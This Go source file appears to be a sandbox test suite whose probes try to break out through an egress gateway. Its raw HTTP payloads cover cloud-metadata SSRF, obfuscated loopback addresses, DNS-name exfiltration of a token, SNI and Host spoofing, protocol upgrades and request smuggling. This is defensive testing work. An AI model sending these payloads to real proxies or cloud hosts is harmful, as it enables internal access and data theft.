package breakout

import (
	"fmt"

	"proofbox/internal/box"
)

// gateways is the part of group J that asks the gateway: the box may connect to
// some names of a [World], and tries to get further. The twin's gateway is a
// proxy that connects wherever it is told to.
func gateways() []Probe {
	tunnel := func(to string) string { return "CONNECT " + to + " HTTP/1.1\r\nHost: " + allowedName + "\r\n\r\n" }
	get := func(to string) string {
		return "GET http://" + to + "/{token} HTTP/1.1\r\nHost: " + allowedName + "\r\n\r\n"
	}
	says := func(first, then string) []string { return []string{"proxy", first, then, "0"} }
	tls := func(to, name string) []string { return []string{"proxy-tls", tunnel(to), name, "{token}"} }
	upgrade := func(to string) string {
		return "GET http://" + allowedName + "/{token} HTTP/1.1\r\nHost: " + allowedName +
			"\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: " + to + "\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n"
	}
	probes := []Probe{
		{ID: "J7c", Title: "have the gateway ask for the metadata of a cloud", Attack: says(get("169.254.169.254"), ""), Oracle: heard("inside")},
		{ID: "J7d", Title: "have the gateway ask for the metadata of a cloud by IPv6", Attack: says(get("[fd00:ec2::254]"), ""), Oracle: heard("inside")},
		{ID: "J8a", Title: "name the host's loopback as one number", Attack: says(tunnel("2130706433:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J8b", Title: "name the host's loopback in octal", Attack: says(tunnel("0177.0.0.01:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J8c", Title: "name the host's loopback in hexadecimal, cut short", Attack: says(tunnel("0x7f.1:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J8d", Title: "name the host's loopback as IPv4 in IPv6", Attack: says(tunnel("[::ffff:7f00:1]:8443"), "{token}"), Oracle: heard("inside")},
		{ID: "J11", Title: "tell a resolver something by the name that it is asked for", Attack: says(tunnel("{token}."+deniedName+":443"), ""), Oracle: heard("resolver")},
		{ID: "J14a", Title: "connect to the host by an allowed name that leads there", Attack: tls(insideName+":443", insideName), Oracle: heard("inside")},
		{ID: "J14b", Title: "connect to the host by an allowed name that has moved there (rebinding)", Attack: tls(movingName+":443", movingName), Oracle: heard("inside")},
		{ID: "J16", Title: "connect to an address, and name an allowed host in TLS", Attack: tls(ofOthers.String()+":443", allowedName), Oracle: heard("outside")},
		{ID: "J17a", Title: "name another host in TLS than the tunnel is to", Attack: tls(allowedName+":443", deniedName), Oracle: heard("outside")},
		{ID: "J17b", Title: "name another host in a request than the tunnel is to", Attack: says(tunnel(allowedName+":80"), "GET /{token} HTTP/1.1\r\nHost: "+deniedName+"\r\n\r\n"), Oracle: heard("outside")},
		{ID: "J18", Title: "name no host in TLS", Attack: tls(allowedName+":443", ""), Oracle: heard("outside")},
		{ID: "J19", Title: "speak another protocol on the port of TLS", Attack: says(tunnel(allowedName+":443"), "SSH-2.0-{token}\r\n"), Oracle: heard("outside")},
		{ID: "J20", Title: "ask for a tunnel to a host that is not allowed", Attack: tls(deniedName+":443", deniedName), Oracle: heard("outside")},
		{ID: "J21a", Title: "end a name with an allowed one, behind a NUL", Attack: says(tunnel(deniedName+`\0`+"."+allowedName+":8443"), "{token}"), Oracle: heard("outside")},
		{ID: "J21b", Title: "put an allowed name before an @", Attack: says(get(allowedName+"@"+deniedName), ""), Oracle: heard("outside")},
		{ID: "J21c", Title: "begin a name with an allowed one", Attack: says(tunnel(allowedName+"."+deniedName+":8443"), "{token}"), Oracle: heard("outside")},
		{ID: "J21d", Title: "end a name with an allowed one, without a dot", Attack: says(tunnel("not"+allowedName+":8443"), "{token}"), Oracle: heard("outside")},
		{ID: "J23", Title: "use another port of an allowed host", Attack: says(tunnel(allowedName+":22"), "SSH-2.0-{token}\r\n"), Oracle: heard("outside")},
		{ID: "J24a", Title: "use a wildcard for the name that it is made of", Attack: tls(wildName+":443", wildName), Oracle: heard("outside")},
		{ID: "J24b", Title: "use a wildcard for two labels", Attack: tls("a.b."+wildName+":443", "a.b."+wildName), Oracle: heard("outside")},
		{ID: "J25a", Title: "have a connection become HTTP/2, which nobody would read", Attack: says(upgrade("h2c"), ""), Oracle: heard("outside")},
		{ID: "J25b", Title: "have a connection become a WebSocket, which nobody would read", Attack: says(upgrade("websocket"), ""), Oracle: heard("outside")},
		{ID: "J25c", Title: "hide a request for another host in the body of one (smuggling)", Attack: says(
			"POST http://"+allowedName+"/ HTTP/1.1\r\nHost: "+allowedName+"\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+
				"GET /{token} HTTP/1.1\r\nHost: "+deniedName+"\r\n\r\n", ""), Oracle: heard("outside")},
		{ID: "J26", Title: "send more to an allowed host than it may be sent", Attack: []string{"proxy", tunnel(allowedName + ":8443"), "{token}", fmt.Sprint(2 * uploadBytes)}, Oracle: eventually("outside")},
	}
	for i := range probes {
		probes[i].Twin = Setting{Weakness: box.Weakness{Gateway: true}}
		probes[i].Itself = true
		probes[i].UserOnly = true // the gateway does not know who asks
	}
	return probes
}
